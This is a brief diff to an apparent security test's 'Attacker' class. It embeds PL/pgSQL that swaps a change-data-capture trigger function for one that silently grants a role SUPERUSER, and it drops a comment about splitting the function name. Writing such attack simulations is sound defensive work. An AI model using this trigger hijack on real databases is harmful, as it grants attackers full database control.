@@ -34,8 +34,7 @@ class Attacker:
                 BEGIN
                     PERFORM pg_catalog.nextval('evil.ran');
                     BEGIN
-                        -- In two pieces: a daemon that reads the body would take the name in it for a call.
-                        EXECUTE 'CREATE OR REPLACE FUNCTION cdc.' || 'capture_' || 'public_product()
+                        EXECUTE 'CREATE OR REPLACE FUNCTION cdc.capture_public_product()
                             RETURNS trigger LANGUAGE plpgsql AS $body$
                             BEGIN EXECUTE $alter$ALTER ROLE {} SUPERUSER$alter$; RETURN NULL; END $body$';
                     EXCEPTION WHEN OTHERS THEN NULL;
